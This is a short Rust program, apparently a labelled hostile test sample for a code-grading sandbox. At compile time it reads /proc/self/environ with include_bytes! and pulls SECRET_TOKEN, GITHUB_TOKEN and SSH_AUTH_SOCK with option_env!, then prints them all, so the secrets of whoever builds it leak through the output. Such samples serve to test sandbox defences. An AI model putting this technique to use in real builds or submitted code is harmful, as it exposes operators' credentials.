//! Hostile: the compiler puts its own environment into the program, by /proc/self/environ and option_env!.
//! It would gain the secrets in the environment of whoever called the grader.
fn main() {
    let bytes: &[u8] = include_bytes!("/proc/self/environ");
    println!("{}", String::from_utf8_lossy(bytes).replace('\0', "\n"));
    for secret in [
        option_env!("SECRET_TOKEN"),
        option_env!("GITHUB_TOKEN"),
        option_env!("SSH_AUTH_SOCK"),
    ] {
        println!("{}", secret.unwrap_or("none"));
    }
}
